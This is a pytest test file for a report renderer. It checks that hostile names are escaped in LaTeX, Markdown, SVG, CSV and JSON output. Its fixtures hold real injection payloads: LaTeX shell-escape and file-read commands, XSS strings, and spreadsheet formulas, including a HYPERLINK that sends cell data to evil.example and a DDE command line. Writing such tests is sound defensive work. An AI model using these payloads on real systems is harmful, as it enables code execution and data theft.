"""Tables, figures and model cards: a name is a name in LaTeX, Markdown, CSV, Parquet, SVG, JSON and YAML."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import warnings
import xml.etree.ElementTree
from pathlib import Path
from typing import Any

import pytest

from babeltune.report.figures.catalogue import Drawing, available
from babeltune.report.figures.fonts import FontsMissing
from babeltune.report.page import sheet
from babeltune.report.render import render
from babeltune.report.tables.table import escaped, tex
from worlds import study

COMMANDS = (
    r"\input{secret}", r"\immediate\write18{touch owned}", r"^^5cinput{secret}", r"\csname input\endcsname secret",
    r"\end{tabular}\end{table}\include{secret}", r"%\\", r"$\def\x{\x}\x$", r"}\verbatiminput{secret}{", r"&&&#1~_^",
    r"\openout3=owned", r"[2pt]", r"*", r"\catcode`\%=12", r'"\textquotedbl', r"\special{psfile=secret}",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "![x](http://evil.example/p.png)",
    "[x]: http://evil.example", "<http://evil.example>", "` ``` `", "| a | b |\n| --- | --- |", "# head\n---\nkey: value", "&lt;script&gt;",
    "--><script>alert(1)</script><!--", "]]><script/>", '"><svg onload=alert(1)>', "-- -->", "\u202e\x1b[31m\x00\ud83d",
)  # fmt: skip
FORMULAS = ('=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1")
NAMES = (*COMMANDS, *MARKUP, *FORMULAS)
ALL = " ".join(name for name in NAMES if "\ud83d" not in name)


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a study all of whose names are attacks."""
    folder = tmp_path_factory.mktemp("report") / "report"
    folder.mkdir()
    mixes = {"mono": {"en": 4}, f"{ALL} m": {"en": 3, "es": 1}, "=1+1": {"en": 2, "es": 1, "de": 1}}
    made = study(["en", "es", "de"], mixes, (f"{ALL} a", "=b"), ("dialogue", "xquad"), items=1, name=ALL)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", FontsMissing)  # some of the signs are in few fonts
        render(made, folder, ("svg",))
    return folder


def texts(folder: Path, ending: str) -> list[str]:
    found = [path.read_text("utf-8", "surrogatepass") for path in sorted(folder.rglob(f"*.{ending}"))]
    assert found
    return found


def test_no_file_of_a_report_is_called_by_a_name_of_others(reported: Path) -> None:
    for path in reported.rglob("*"):
        assert re.fullmatch(r"[\w.-]+", path.name), path
        assert not path.name.startswith(("-", "."))
    assert {path.name for path in reported.parent.iterdir()} == {"report"}


@pytest.mark.parametrize("name", NAMES)
def test_what_latex_prints_of_a_name_is_text(name: str) -> None:
    printed = tex(name)
    left = re.sub(r"\\[\\{}$&#%_]|\\text[a-z]+\{\}|\\dots\{\}|\$\\times\$|\{[\[\]]\}", "", printed)
    assert not re.search(r"[\\{}$&#%_^~]", left), printed
    assert "\n" not in printed


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="no LaTeX")
def test_latex_reads_and_runs_nothing_that_a_name_tells_it_to(reported: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.tex").write_text("TOPSECRET")
    rules = "".join(rf"\providecommand{{\{rule}rule}}{{\hline}}" for rule in ("top", "mid", "bottom"))

    def compiled(name: str, body: str) -> str:
        head = rf"\documentclass{{article}}\usepackage[T1]{{fontenc}}\usepackage{{graphicx}}{rules}\begin{{document}}"
        (tmp_path / f"{name}.tex").write_text(f"{head}\n{body}\n\\end{{document}}\n")
        command = ["pdflatex", "-interaction=nonstopmode", "-shell-escape", f"{name}.tex"]
        done = subprocess.run(command, cwd=tmp_path, capture_output=True, timeout=300, check=False)
        return done.stdout.decode("latin-1")

    said = compiled("ours", texts(reported, "tex")[-1])
    assert not re.search(r"^! (?!LaTeX Error: Unicode)", said, re.MULTILINE), said[-2000:]
    assert "secret.tex" not in said
    assert not list(tmp_path.glob("owned*"))
    assert (tmp_path / "ours.pdf").stat().st_size > 1000
    theirs = compiled("theirs", f"{COMMANDS[0]} {COMMANDS[1]}")  # so that the above shows something
    assert "secret.tex" in theirs
    assert (tmp_path / "owned").exists()


@pytest.mark.parametrize("name", NAMES)
def test_what_markdown_shows_of_a_name_is_text(name: str) -> None:
    shown = escaped(name)
    assert not re.search(r"(?<!\\)(?:\\\\)*[<>`*_\[\]|#~$]", shown), shown
    assert not re.search("[\x00-\x1f\u202e\ud800-\udfff]", shown)


def test_markdown_files_of_a_report_hold_no_markup_of_others(reported: Path) -> None:
    for text in texts(reported, "md"):
        bare = re.sub(r"\\.", "", text)  # whatever is escaped
        for line in bare.splitlines():
            assert "<" not in line, line
            assert not re.search(r"\]\((?!figure|exposure|losses)", line), line


def test_svg_holds_no_script_handler_or_address(reported: Path) -> None:
    for text in texts(reported, "svg"):
        tree = xml.etree.ElementTree.fromstring(text)
        for element in tree.iter():
            assert not str(element.tag).lower().endswith(("script", "foreignobject", "image", "}a", "iframe"))
            for key, value in element.attrib.items():
                assert not key.rpartition("}")[2].lower().startswith("on")
                assert not (key.endswith("href") and not value.startswith("#")), value
        outside = re.sub(r"<!--.*?-->", "", text, flags=re.DOTALL)
        assert "alert(1)" not in outside


def test_results_are_for_programs_and_the_sheet_is_for_spreadsheets(reported: Path) -> None:
    """``results.csv`` has the names as they are, quoted by RFC 4180: what reads it by column gets the very name. A sheet,
    which is made to be opened in a spreadsheet, has an apostrophe before whatever could begin a formula.
    """
    with (reported / "results.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["mix"] for row in rows} >= {f"{ALL} m", "=1+1"}
    assert {row["model"] for row in rows} == {f"{ALL} a", "=b"}
    entries = tuple(sheet.Entry(f"a{at}", "i", name, name) for at, name in enumerate(NAMES))
    table = list(csv.reader(io.StringIO(sheet.table(sheet.Sheet("de", entries, {1: "Bad - x"})).lstrip("\ufeff"))))
    for cell in (cell for row in table[1:] for cell in row):
        assert not cell.lstrip(" \"'\t\r\n").startswith(("=", "+", "-", "@", "＝")) or cell.lstrip(
            ' "\t\r\n'
        ).startswith("'")


def test_json_of_a_report_gives_every_name_back(reported: Path) -> None:
    found: dict[str, Any] = json.loads((reported / "results.json").read_text())
    assert found["study"] == ALL
    assert f"{ALL} a" in {row["model"] for row in found["rows"]}


def test_captions_say_what_models_are_called_and_nothing_more(reported: Path) -> None:
    drawn, _ = available(study(["en", "es", "de"], models=("../../x", "a/b"), items=1))
    assert drawn
    for one in drawn:
        assert isinstance(one, Drawing)
        assert re.fullmatch(r"[\w.-]+", one.file)
        assert not one.file.startswith(".")
